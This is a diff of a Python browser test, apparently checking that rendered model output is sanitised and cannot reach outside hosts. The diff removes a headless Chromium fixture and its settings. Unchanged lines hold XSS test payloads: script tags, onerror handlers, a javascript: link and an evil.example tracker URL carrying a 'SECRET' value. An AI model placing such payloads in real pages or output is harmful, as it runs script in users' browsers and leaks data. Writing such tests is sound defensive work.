@@ -4,8 +4,6 @@ Every request the browser makes is recorded, and any request off the page's orig
 the test), so the page can never reach a real host.
 """
 
-import os
-import shutil
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -19,9 +17,6 @@ pytestmark = pytest.mark.browser
 
 ROOT = Path(__file__).resolve().parents[2]
 SEEDS = sorted((ROOT.parent / "shared" / "seeds").glob("*.txt"))
-CHROMIUM = "/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else shutil.which("chromium")
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync", "--no-first-run"]
 ENGLISH = ("Jingyuan was surprised: on TPUs at K2 scale you don't need PP. Horace: PP is mostly needed when "
            "you're DP-comms bound; with enough bandwidth over a large domain (NVL72) simpler parallelism works.")
 PAYLOADS = ('<script>window.__xss = 1; alert(1)</script> <img src=x onerror="window.__xss = 2; alert(2)"> '
@@ -31,20 +26,6 @@ MODEL_PAYLOAD = ("## Answer\n\nPP splits layers. <script>window.__xss = 7; alert
                  "<img src=\"https://evil.example/pixel.png\" onerror=\"window.__xss = 8\">\n\n"
                  "![tracker](https://evil.example/collect?q=SECRET)\n\n"
                  "[read more](javascript:window.__xss=9) and [docs](https://example.org/docs)\n")
-
-
-@pytest.fixture(scope="module")
-def browser():
-    if not CHROMIUM:
-        pytest.skip("chromium is not installed (apt-get install chromium; python3 tasks.py test does it as root)")
-    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (the test extra)")
-    with sync_api.sync_playwright() as playwright:
-        try:
-            launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, timeout=30_000)
-        except Exception as exc:  # e.g. a chromium that cannot start in this container
-            pytest.skip(f"chromium could not start: {exc}")
-        yield launched
-        launched.close()
 
 
 class Page:
